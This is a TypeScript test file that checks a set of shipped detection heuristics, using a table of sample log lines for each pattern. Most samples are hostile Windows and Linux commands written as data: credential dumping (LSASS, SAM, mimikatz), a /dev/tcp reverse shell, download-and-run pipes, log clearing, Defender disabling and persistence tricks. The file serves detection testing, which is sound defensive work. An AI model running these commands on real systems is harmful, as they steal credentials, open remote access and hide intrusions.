import { beforeAll, describe, expect, it } from 'vitest';
import { openHeuristics, type Heuristics } from '../testing/heuristics.ts';

let heuristics: Heuristics;
beforeAll(async () => void (heuristics = await openHeuristics()));

const base64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA';
const chrome = 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default';
const firefox = 'C:\\Users\\a\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\x.default';
const version = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion';

/**
 * By pattern: a field, what it must find there and what it must not, which is as near as quiet machines come. A program
 * in braces is planted in each spelling of its system: `<…>` of Windows, `{…}` of Linux.
 */
const planted: Readonly<Record<string, readonly [field: string, found: readonly string[], quiet: readonly string[]]>> =
  {
    BASE64_ENCODED_COMMAND: [
      'CommandLine',
      [
        `<powershell> -e ${base64}`,
        `<powershell> -nop -enc ${base64}`,
        `<pwsh> /EncodedCommand "${base64}"`,
        `<powershell> "-ec" ${base64}`,
      ],
      ['powershell -ep bypass -file x.ps1', `powershell -file ${base64}`, 'powershell -e aGVsbG8='],
    ],
    BASE64_FROMBASE64: [
      'ScriptBlockText',
      [
        "[Convert]::FromBase64String('eA==')",
        'FromBase64CharArray($x)',
        'ConvertTo-SecureString $x',
        'PtrToStringAuto($x)',
      ],
      ["[Convert]::ToBase64String('x')", 'Read-Host -AsSecureString'],
    ],
    CARET_INSERTION: [
      'CommandLine',
      ['^p^o^w^e^r', 'cmd /c p^o^w^e^r^s^h^e^l^l', '^c^:^\\^a^.'],
      ['cmd /c echo a ^& echo b ^& echo c ^| more', 'findstr /r "^[^a-z]*^.^" x'],
    ],
    HEX_STRINGS: [
      'ScriptBlockText',
      ['0xdeadbeef,0xcafebabe,0x01234567', '0xdeadbeef 0xcafebabe 0x01234567', '0xDEADBEEF\t+\t0xCAFEBABE, 0x01234567'],
      ['0xdeadbeef, 0xcafebabe', '0x01,0x02,0x03,0x04'],
    ],
    TICK_OBFUSCATION: [
      'ScriptBlockText',
      ['i`n`v`oke', '`i`e`x', 'new`-`o`b`ject'],
      ['a `\n -b', '"`t`n"', 'Get`-Item'],
    ],
    CHAR_ARRAY_OBFUSCATION: [
      'ScriptBlockText',
      ['[char]73+[char]69+[char]88', '([char]0x49)+([char]0x45)+([char]0x58)', '[char] 73, [char]\t( 69 ), [char]88'],
      ['[char]73+[char]69', '[char[]]$x'],
    ],
    CONCAT_OBFUSCATION: [
      'ScriptBlockText',
      ["'In'+'vo'+'ke'+'-Ex'+'pr'", '"a" + "b" + "c" + "d" + "e"', "'a'\t+\t'b'\t+\t'c'\t+\t'd'\t+\t'e'"],
      ["'a'+'b'+'c'", '"a long text of it" + "another long text"'],
    ],
    SAM_HIVE: [
      'CommandLine',
      [
        'copy C:\\Windows\\System32\\config\\SAM x',
        'esentutl /y "C:\\Windows\\System32\\config\\SYSTEM"',
        'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\repair\\sam',
        'reg query HKLM\\SAM\\SAM\\Domains',
      ],
      [
        'dir C:\\Windows\\System32\\config',
        'type C:\\Windows\\System32\\config\\systemprofile\\x.log',
        'reg query HKLM\\SYSTEM\\x',
      ],
    ],
    REG_SAVE_HIVE: [
      'CommandLine',
      ['<reg> save HKLM\\SAM s.hiv', '<reg> export "HKLM\\SYSTEM" s', '<reg> save hkey_local_machine\\security s'],
      ['reg save HKLM\\SOFTWARE\\x s.hiv', 'reg query HKLM\\SYSTEM', 'reg export HKCU\\x y.reg'],
    ],
    NTDS_DIT: [
      'CommandLine',
      ['copy x\\ntds.dit .', '<ntdsutil> "ac i ntds" "ifm" "create full c:\\x" q q', '<ntdsutil> ifm'],
      ['ntdsutil "metadata cleanup" q', 'dir C:\\Windows\\NTDS'],
    ],
    LSASS_ACCESS: [
      'CommandLine',
      [
        '<procdump> -ma lsass.exe l',
        '<procdump64> lsass',
        'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 x full',
        'rundll32 comsvcs.dll,#24 640 x full',
        'rundll32 "comsvcs.dll" MiniDump 640 x',
        'ren x C:\\t\\lsass.dmp',
        'privilege::debug sekurlsa::logonpasswords',
      ],
      ['C:\\Windows\\System32\\lsass.exe', 'procdump -ma w3wp.exe w.dmp', 'rundll32 comsvcs.dll,Other'],
    ],
    BROWSER_CREDENTIALS: [
      'TargetFilename',
      [`${chrome}\\Login Data`, `"${chrome}\\Network\\Cookies"`, `${firefox}\\logins.json`, `${firefox}\\key4.db`],
      [`${chrome}\\Preferences`, `${firefox}\\prefs.js`, 'C:\\x\\Cookies'],
    ],
    CREDENTIAL_TOOLS: [
      'CommandLine',
      ['<mimikatz>', '<lazagne> all', 'python3 secretsdump.py a@b', 'Invoke-Kerberoast', '<rubeus> asktgt'],
      ['wce.txt', 'notepad kiwi.txt', 'dumper.exe'],
    ],
    SSH_KEY_ACCESS: [
      'CommandLine',
      [
        'cat /root/.ssh/id_rsa',
        'type C:\\Users\\a\\.ssh\\known_hosts',
        'cat "/home/a b/.ssh/authorized_keys"',
        'cat\t~/.ssh/config',
      ],
      ['ls /root/.ssh', 'ssh -V', 'cat /etc/ssh/ssh_config'],
    ],
    DOUBLE_EXTENSION: [
      'CommandLine',
      ['C:\\x\\invoice.pdf.exe', '"C:\\x y\\notes.txt.js"', 'wscript C:\\a\\b.docx.vbs\t'],
      ['C:\\x\\jquery.min.js', 'C:\\x\\setup.exe', 'www.example.com', 'tool.pdf.exe --help'],
    ],
    REGISTRY_RUN_KEY: [
      'CommandLine',
      [
        `reg add ${version}\\Run /v x`,
        `reg add "${version}\\RunOnce" /v x`,
        `reg add ${version}\\Policies\\Explorer\\Run\t/v x`,
        'reg add HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell',
      ],
      [`reg query ${version}\\Uninstall`, `reg add ${version}\\RunMRU2`, `reg query ${version}\\Explorer`],
    ],
    STARTUP_FOLDER: [
      'CommandLine',
      ['copy x "C:\\y\\Start Menu\\Programs\\Startup\\z"', 'copy x C:\\y\\Start Menu\\Programs\\StartUp\\z'],
      ['dir "C:\\y\\Start Menu\\Programs\\Tools"', 'C:\\app\\Startup\\x'],
    ],
    WMI_PERSISTENCE: [
      'CommandLine',
      [
        'wmic path __EventFilter create',
        'Set-WmiInstance -Class CommandLineEventConsumer',
        '"__FilterToConsumerBinding"',
      ],
      ['wmic process list', 'Get-EventLog'],
    ],
    SERVICE_CREATION: [
      'CommandLine',
      [
        '<sc> create evil binPath= x',
        '<sc> config x start= auto',
        '<sc> \\\\srv create evil binPath= x',
        'New-Service -Name x',
      ],
      ['sc query', 'sc qc create', 'sc description x "we create it"', 'disc create x'],
    ],
    SCHEDULED_TASK_CREATION: [
      'CommandLine',
      [
        '<schtasks> /create /tn x /tr y',
        '<schtasks> -create /tn x',
        '<schtasks> /s srv /change /tn x',
        'schtasks/create /tn x',
        'Register-ScheduledTask x',
        'New-ScheduledTaskAction x',
      ],
      ['schtasks /query', 'schtasks /run /tn create', 'Get-ScheduledTask'],
    ],
    AMSI_BYPASS: ['ScriptBlockText', ["'AmsiUtils'", 'amsiInitFailed', '\tAmsiScanBuffer'], ['Amsi', 'amsi.log']],
    ETW_PATCHING: [
      'ScriptBlockText',
      ["'EtwEventWrite'", 'set COMPlus_ETWEnabled=0', 'PSEtwLogProvider'],
      ['ETW', 'etwtrace'],
    ],
    LOG_CLEARING: [
      'CommandLine',
      [
        '<wevtutil> cl Security',
        '<wevtutil> clear-log System',
        'Clear-EventLog Security',
        '{rm} /var/log/auth.log',
        '{rm} -rf /var/log/x',
        '{shred} -u /var/log/wtmp',
        'echo > /var/log/wtmp',
        ': >/var/log/wtmp',
        'history -c',
        '{journalctl} --vacuum-time=1s',
        '<wmic> nteventlog where x call ClearEventLog',
      ],
      ['wevtutil qe Security', 'tail /var/log/auth.log', 'rm /var/lib/x', 'journalctl -u ssh', 'history 10'],
    ],
    DISABLE_DEFENDER: [
      'CommandLine',
      [
        'Set-MpPreference -DisableRealtimeMonitoring $true',
        'Set-MpPreference -DisableRealtimeMonitoring:$true',
        'Add-MpPreference\t-ExclusionPath C:\\x',
        '<sc> stop WinDefend',
        '<sc> config "WinDefend" start= disabled',
        '<net> stop windefend',
        '<mpcmdrun> -RemoveDefinitions -All',
      ],
      [
        'Get-MpPreference',
        'Set-MpPreference -DisableCatchupFullScan $false',
        'sc query WinDefend',
        'mpcmdrun -SignatureUpdate',
      ],
    ],
    TIMESTOMPING: [
      'CommandLine',
      [
        '(gi x).LastWriteTime = "1/1/2020"',
        '$f.CreationTimeUtc="1/1/2020"',
        '{touch} -r /bin/ls /tmp/x',
        '{touch} -d "2020-01-01" x',
        '{touch} -t202001010000 x',
        '{touch} -acmr /bin/ls x',
        '{touch} -a -t 202001010000 x',
        '{touch} /tmp/x -r /bin/ls',
        '{touch} --reference=/bin/ls x',
      ],
      ['touch x', 'touch -a x', 'touch my -c', 'touch x; ls -rt', '$f.LastWriteTime -gt $d'],
    ],
    DOWNLOAD_CRADLE: [
      'CommandLine',
      [
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        'iwr http://x/y -o y',
        'Invoke-WebRequest\thttps://x',
        'irm x | iex',
        'Start-BitsTransfer x',
      ],
      ['Get-Content x | Measure-Object', 'irm -help', 'fiwrx http://x'],
    ],
    BITSADMIN_DOWNLOAD: [
      'CommandLine',
      ['<bitsadmin> /transfer j http://x/y c:\\y', '<bitsadmin> /rawreturn /addfile j x y', 'bitsadmin/transfer j x y'],
      ['bitsadmin /list', 'bitsadmin /monitor'],
    ],
    CERTUTIL_DOWNLOAD: [
      'CommandLine',
      [
        '<certutil> -urlcache -f http://x y',
        '<certutil> /verifyctl x',
        '<certutil> -f x http://y',
        'certutil/urlcache x',
      ],
      ['certutil -hashfile x SHA256', 'certutil -store my', 'certutil -urlcached'],
    ],
    ARCHIVE_CREATION: [
      'CommandLine',
      [
        '<7z> a loot.7z C:\\data',
        '<rar> a -r x y',
        '<makecab> x y',
        '{tar} czf x.tgz y',
        '{tar} -c -f x y',
        '{tar} --create -f x y',
        '{zip} -r x y',
        '{zip} -9qr x y',
        '{zip} -q -r x y',
        'Compress-Archive x y',
      ],
      ['7z x loot.7z', 'tar xf src.tar', 'tar -tvf x', 'unzip -r x', 'zip x y', 'gunzip -r x'],
    ],
    UPLOAD_INDICATOR: [
      'CommandLine',
      [
        '<curl> -X POST http://x',
        '{curl} -X POST http://x',
        '{curl} -XPUT http://x',
        '{curl} --request POST http://x',
        '{curl} --request=PUT http://x',
        '{curl} -d @loot http://x',
        '{curl} -d a=b http://x',
        '{curl} -d@loot http://x',
        '{curl} -da=b http://x',
        "{curl} -d '{}' http://x",
        '{curl} --data x http://y',
        '{curl} --data-binary @x http://y',
        '{curl} --data-urlencode x http://y',
        '{curl} --json {} http://y',
        '{curl} -T loot ftp://x',
        '{curl} -T/etc/passwd ftp://x',
        '{curl} --upload-file loot http://x',
        '{curl} -F file=@loot http://x',
        '{curl} -F "file=@loot" http://x',
        '{curl} --form file=@loot http://x',
        '{curl} -s -k -T loot http://x',
        '{curl} -skT loot http://x',
        '{curl} http://x -d @loot',
        '<curl> "-d" @loot http://x',
        'Invoke-WebRequest -Method POST http://x',
        'iwr -Method:Put http://x',
        'irm http://x -InFile loot',
        "$w.UploadFile('http://x', 'loot')",
        "$w.UploadStringAsync('http://x', 'loot')",
      ],
      [
        'curl http://x',
        'curl -s -o x http://y',
        'curl -f http://x',
        'curl -fsSL http://x/y.sh',
        'curl -t TTYPE=vt100 telnet://x',
        'curl -sI http://x',
        'curl -s http://x | cut -d , -f 1',
        "curl -s http://x | tr -d '\"'",
        'curl -s http://x | tar -xz -T list',
        'curl http://x -TimeoutSec 5',
        'curl -X GET http://x',
        'curl --request GET http://x',
        'curl --dump-header x http://y',
        'curl -D headers http://x',
        'apt-get install curl',
        'iwr http://x -Method Get',
      ],
    ],
    NETWORK_COPY: [
      'CommandLine',
      [
        '<robocopy> C:\\x \\\\srv\\share',
        '<xcopy> \\\\srv\\c$\\x .',
        'copy "x" "\\\\srv\\c$"',
        'Copy-Item x -Destination \\\\srv\\s',
      ],
      ['copy x y', 'robocopy C:\\a D:\\b', 'xcopy \\\\?\\C:\\x y', 'type \\\\srv\\share\\x'],
    ],
    DOWNLOAD_PIPE_SHELL: [
      'proctitle',
      [
        '{curl} -s http://x/y | bash',
        '{wget} -qO- http://x|sh',
        '{curl} x | sudo bash',
        '{curl} x | sudo -E bash -',
        '{curl} x |\t/bin/sh',
      ],
      ['curl x | grep sh', 'curl x -o y.sh', 'wget x; bash y', 'curl x | shuf'],
    ],
    DEV_TCP_REDIRECT: [
      'proctitle',
      ['bash -i >& /dev/tcp/1.2.3.4/9 0>&1', 'cat </dev/udp/x/53'],
      ['ls /dev/tty', '/dev/tcpx'],
    ],
    BASE64_DECODE_PIPE: [
      'proctitle',
      [
        'echo eA== | {base64} -d | sh',
        '{base64} -d x | sh',
        '{base64} --decode x | sh',
        '{base64} -di x | sh',
        '{base64} -i -d x | sh',
        'cat x |base64 -d',
        '{base64} x -d | sh',
      ],
      ['base64 -w0 x | tee y', 'base64 x | cut -d , -f 1', 'base64 my-doc | cat', 'cat x | base64'],
    ],
    CHMOD_THEN_EXEC: [
      'proctitle',
      [
        '{chmod} +x /tmp/x',
        '{chmod} 755 /tmp/x',
        '{chmod} 0777 /tmp/x',
        '{chmod} -R u+x /tmp/x',
        '{chmod} --recursive +x x',
        '{chmod} "+x" x',
        '{chmod} u+x,g+x x',
        '{chmod} g-w,u+x x',
      ],
      ['chmod 644 x', 'chmod -x x', 'chmod u+rw x', 'chmod 0640 x', 'chmod --recursive g+w x'],
    ],
    PYTHON_INLINE_SHELL: [
      'CommandLine',
      [
        "{python3} -c 'import pty;pty.spawn(1)'",
        '{python} -c"import socket"',
        '{python3.11} -u -c "import os;os.system(1)"',
        '{python3} -Sc "import subprocess"',
        '<python> -c "import subprocess"',
      ],
      ['python3 socket.py', 'python3 -c "print(1)"', 'python3 -m pty'],
    ],
    CRON_MODIFICATION: [
      'proctitle',
      [
        '{crontab} -e',
        '{crontab} /tmp/x',
        '{crontab} -',
        'echo x | crontab -',
        '{crontab} -u eve x',
        'vi /etc/cron.d/x',
        'ls /var/spool/cron',
      ],
      ['crontab -l', 'crontab -r', 'man 5 crontab', 'systemctl status cron'],
    ],
    SYSTEMD_UNIT: [
      'proctitle',
      [
        '{systemctl} enable x',
        '{systemctl} --user enable x',
        '{systemctl} -q enable x',
        '{systemctl} --root=/mnt enable x',
        'cp x /etc/systemd/system/x.service',
      ],
      ['systemctl status enable-x', 'systemctl is-enabled x', 'ls /etc/systemd/system'],
    ],
    AUTHORIZED_KEYS: [
      'proctitle',
      ['tee -a /root/.ssh/authorized_keys', 'vi "authorized_keys2"'],
      ['ls /root/.ssh', 'authorized_keysx'],
    ],
    LD_PRELOAD: [
      'proctitle',
      ['LD_PRELOAD=/tmp/x.so ls', 'env LD_PRELOAD="x" ls', 'vi /etc/ld.so.preload'],
      ['ldd x', 'unset LD_PRELOAD'],
    ],
    SHELL_PROFILE: [
      'proctitle',
      [
        'echo x >> /root/.bashrc',
        'echo x>>~/.profile',
        '{tee} -a /etc/profile',
        '{sed} -i s/a/b/ .zshrc',
        '{nano} .bash_profile',
      ],
      ['cat /root/.bashrc', 'source .profile', 'ls .zshrc'],
    ],
    RC_LOCAL: [
      'proctitle',
      ['vi /etc/rc.local', 'cp x /etc/init.d/x', '"/etc/rc.d/rc.local"'],
      ['ls /etc/init.d', 'rc.local'],
    ],
    UDEV_RULE: [
      'proctitle',
      ['cp x /etc/udev/rules.d/99.rules', 'tee /lib/udev/rules.d/x'],
      ['udevadm info', 'ls /etc/udev'],
    ],
    SETUID_CHMOD: [
      'proctitle',
      [
        '{chmod} u+s /bin/bash',
        '{chmod} 4755 x',
        '{chmod} --verbose 6755 x',
        '{chmod} -v +s x',
        '{chmod} u+x,u+s x',
        "{chmod} 'u+s' x",
      ],
      ['chmod u-s x', 'chmod 755 x', 'chmod 1777 /tmp', 'chmod u+x x'],
    ],
    SUID_SEARCH: [
      'proctitle',
      ['{find} -perm -4000', '{find} / -perm -u=s -type f', '{find} / -perm /6000', '{find} /\t-perm\t-4000'],
      ['find / -perm 644', 'find / -name perm', 'find . -perm -u=r'],
    ],
    SUDOERS_EDIT: [
      'proctitle',
      ['{visudo}', 'vi /etc/sudoers', 'tee /etc/sudoers.d/x', 'echo "eve ALL=(ALL) NOPASSWD: ALL"'],
      ['sudo -l', 'ls /etc/sudo.conf'],
    ],
    ADMIN_GROUP_ADD: [
      'proctitle',
      ['{usermod} -aG sudo eve', '{gpasswd} -a eve wheel', '{adduser} eve docker', '{usermod} -aG "sudo" eve'],
      ['usermod -s /bin/sh eve', 'adduser eve', 'groups root'],
    ],
    PKEXEC_INVOCATION: ['proctitle', ['{pkexec} /bin/sh', '{pkexec}'], ['pkexecutor', 'polkitd']],
    SUDO_SHELL: [
      'proctitle',
      [
        '{sudo} -i',
        '{sudo} su -',
        '{sudo} bash',
        '{sudo} /bin/sh',
        '{sudo} -u root bash',
        '{sudo} -E -H bash',
        '{sudo} --user=root -i',
        '{sudo} --login',
        '{sudo} -u root -s',
      ],
      [
        'sudo systemctl status ssh',
        'sudo -u postgres psql',
        'sudo -n true',
        'sudo -l',
        'sudo -H echo bash',
        'sudo ssh x',
        'sudo ls',
      ],
    ],
    PASSWD_SHADOW_WRITE: [
      'proctitle',
      [
        'echo x >> /etc/passwd',
        'echo x >>/etc/shadow',
        'echo x | {tee} /etc/passwd',
        'echo x | {tee} -a /etc/passwd',
        '{sed} -i s/x/y/ /etc/shadow',
        "{sed} -E -i.bak 's/x/y/' /etc/passwd",
        '{cp} x /etc/passwd',
        '{chpasswd}',
        '{openssl} passwd -1 x',
      ],
      ['cat /etc/passwd', "sed -n 's/x/y/' /etc/passwd", 'grep root /etc/shadow', 'passwd eve', 'openssl version'],
    ],
  };

/** In capitals, with tabs, by a path, in quotes: what names the program in the line is as it is found in logs. */
function spellings(line: string): string[] {
  const named = /<([\w.]+)>|\{([\w.]+)\}/.exec(line);
  if (named === null) return [line, line.toUpperCase()];
  const [whole, windows, linux] = named;
  const names =
    windows === undefined
      ? [linux, `/usr/bin/${linux}`, `"/opt/a b/${linux}"`]
      : [
          windows,
          windows.toUpperCase(),
          `${windows}.exe`,
          `C:\\x\\${windows}.EXE`,
          `"C:\\Program Files\\${windows}.exe"`,
        ];
  const plain = line.replace(whole, names[0]!);
  const after = line.indexOf(whole) + names[0]!.length;
  const tabs = plain.slice(0, after) + plain.slice(after).replace(/ /, '\t');
  const wide = plain.slice(0, after) + plain.slice(after).replace(/ /, '   ');
  return [...names.map((name) => line.replace(whole, () => name!)), tabs, wide];
}

const rows = Object.entries(planted).map(([tag, [field, found, quiet]]) => ({ tag, field, found, quiet }));

describe('a pattern of the shipped heuristics', () => {
  it('has a row in this table', () => {
    expect(Object.keys(planted).sort()).toEqual([...heuristics.patterns].sort());
    for (const { found, quiet } of rows) expect([found.length > 1, quiet.length > 1]).toEqual([true, true]);
  });

  it.each(rows)('$tag is found in every spelling', ({ tag, field, found }) => {
    const missed = found.flatMap(spellings).filter((line) => !heuristics.tags(field, line).includes(tag));
    expect(missed).toEqual([]);
  });

  it.each(rows)('$tag is not found in what is near', ({ tag, field, quiet }) => {
    expect(quiet.filter((line) => heuristics.tags(field, line).includes(tag))).toEqual([]);
  });
});
